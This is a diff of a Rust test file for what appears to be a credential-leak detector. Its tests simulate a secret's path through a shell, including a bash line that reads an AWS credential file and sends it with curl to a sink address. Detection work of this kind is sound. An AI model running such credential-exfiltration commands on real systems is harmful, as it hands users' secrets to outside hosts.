@@ -17,7 +17,7 @@ type Result = anyhow::Result<()>;
 
 /// What a conclusion finds of the secret's way; what needs no destination is beside it.
 fn leaks(conclusion: &Conclusion) -> Vec<&Finding> {
-    conclusion.findings.iter().filter(|finding| finding.technique.is_none()).collect()
+    conclusion.findings.iter().filter(|finding| finding.rule == "leak").collect()
 }
 
 /// What a conclusion says, but for the numbers and times of events.
@@ -98,12 +98,22 @@ fn through_a_file() -> Result {
     every_event_counts(&scene, theft, &["read", "give", "take", "send"])
 }
 
-/// The descriptor is opened by a shell and sent by a program that its child becomes.
+/// A shell reads the secret and hands it to a program that its child becomes, as an argument.
 #[test]
 fn through_a_fork_and_an_exec() -> Result {
+    let scene = Scene::new()?;
+    let script = r#"IFS= read -rd "" secret < "$0"; curl -s --max-time 5 --data-binary "$secret" "http://$1/"; exit 0"#;
+    let (to, file) = (scene.sink.at(SINK_V4).to_string(), scene.home.credential("aws"));
+    let words = ["bash".into(), "-c".into(), script.into(), file.into(), to.into()];
+    every_event_counts(&scene, words.to_vec(), &["read", "fork", "exec", "send"])
+}
+
+/// What a program is given as its standard input is its own, whoever opened it: neither the fork nor the exec matters.
+#[test]
+fn through_standard_input() -> Result {
     let scene = Scene::new()?;
     let script = r#"exec 3< "$1"; "$0" send-stdin "$2" <&3; exit 0"#;
     let (to, file) = (scene.sink.at(SINK_V4).to_string(), scene.home.credential("aws"));
     let words = ["bash".into(), "-c".into(), script.into(), binary("fixture")?.into(), file.into(), to.into()];
-    every_event_counts(&scene, words.to_vec(), &["read", "fork", "exec", "send"])
+    every_event_counts(&scene, words.to_vec(), &["read", "send"])
 }
